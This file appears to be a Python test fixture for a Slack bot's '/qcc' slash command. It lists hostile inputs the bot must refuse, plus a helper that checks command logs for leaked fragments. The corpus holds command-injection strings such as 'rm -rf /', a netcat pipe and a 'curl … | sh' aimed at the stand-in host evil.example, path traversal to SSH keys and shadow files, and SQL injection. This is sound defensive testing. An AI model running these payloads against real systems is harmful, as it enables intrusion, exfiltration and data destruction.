"""Hostile ``/qcc`` texts: what an attacker (or a slip of the keyboard) can put in a slash command.

Each entry is ``(label, text)``; ``text`` is exactly what Slack would put in the ``text`` field
(Slack escapes ``& < >`` as entities itself, and sends mentions as ``<@U…>`` / ``<#C…|name>``).
None of them is a command the bot should run: every one must be answered in the ack with the
usage or an "unknown environment" refusal, and nothing of it may reach a shell.

:func:`leaked_fragments` finds the pieces (4 characters or more) of a text that show up in the
host's command logs without being part of the commands a normal diagnosis runs.
"""

from __future__ import annotations

CORPUS: list[tuple[str, str]] = [
    ("semicolon", "diagnose test; rm -rf /"),
    ("command substitution $()", "diagnose $(touch /tmp/qcc-pwned)"),
    ("backticks", "diagnose `touch /tmp/qcc-pwned`"),
    ("quoted backticks env", "status '`id`'"),
    ("pipe", "status test | nc evil.example 4444"),
    ("and-and", "logs 5 test && curl http://evil.example/x.sh | sh"),
    ("newline", "diagnose test\nid"),
    ("CRLF", "diagnose test\r\nwhoami"),
    ("NUL byte", "diagnose te\x00st"),
    ("10 kB of text", "diagnose " + "A" * 10_000),
    ("10 kB of metacharacters", "diagnose " + "$(id);`id`|" * 900),
    ("fullwidth subcommand", "\uff44\uff49\uff41\uff47\uff4e\uff4f\uff53\uff45 test"),
    ("fullwidth environment", "diagnose \uff54\uff45\uff53\uff54"),
    ("Cyrillic e in environment", "diagnose t\u0435st"),
    ("Cyrillic i in subcommand", "d\u0456agnose test"),
    ("RTL override", "diagnose \u202etset"),
    ("zero-width space", "status test\u200bid"),
    ("environment not configured", "diagnose prod"),
    ("environment with substitution", "diagnose staging-$(id)"),
    ("Slack-escaped <>", "diagnose &lt;test&gt;"),
    ("Slack-escaped &&", "diagnose test &amp;&amp; reboot"),
    ("user mention", "diagnose <@U123>"),
    ("user mention with name", "logs <@U123|alice>"),
    ("channel mention", "diagnose <#C123|x>"),
    ("broadcast mention", "status <!channel>"),
    ("--env=prod flag", "diagnose --env=prod"),
    ("path traversal", "diagnose ../../etc/passwd"),
    ("path traversal in logs", "logs 10 ../../../root/.ssh/id_rsa"),
    ("url-encoded traversal", "status %2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("SQL quote injection", "diagnose test' OR '1'='1"),
    ("SQL stacked statement", "audit 5; DROP TABLE audit_log; --"),
    ("SQL union", "audit 1 UNION SELECT password FROM mysql.user"),
    ("superscript digit", "logs \u00b2"),
    ("Arabic-Indic digit", "logs \u0663 test"),
    ("huge number", "logs 99999999999999999999999999"),
    ("negative number", "logs -1 test"),
    ("IFS trick", "diagnose ${IFS}cat${IFS}/etc/shadow"),
    ("redirection", "diagnose test > /etc/passwd"),
    ("quoted separator", "diagnose 'test;id'"),
    ("help with substitution", "help $(reboot)"),
]

CLEAR_REPLIES = ("Usage:", "unknown environment", "takes n between 1 and")
MIN_FRAGMENT = 4


def leaked_fragments(text: str, logged: str, normal: str) -> list[str]:
    """Maximal substrings of ``text`` (at least :data:`MIN_FRAGMENT` characters) found in ``logged``
    that are not also in ``normal`` (what a normal diagnosis runs)."""
    found: list[str] = []
    i = 0
    while i <= len(text) - MIN_FRAGMENT:
        length = MIN_FRAGMENT
        if text[i:i + length] not in logged:
            i += 1
            continue
        while i + length < len(text) and text[i:i + length + 1] in logged:
            length += 1
        piece = text[i:i + length]
        if piece not in normal:
            found.append(piece)
        i += length
    return found
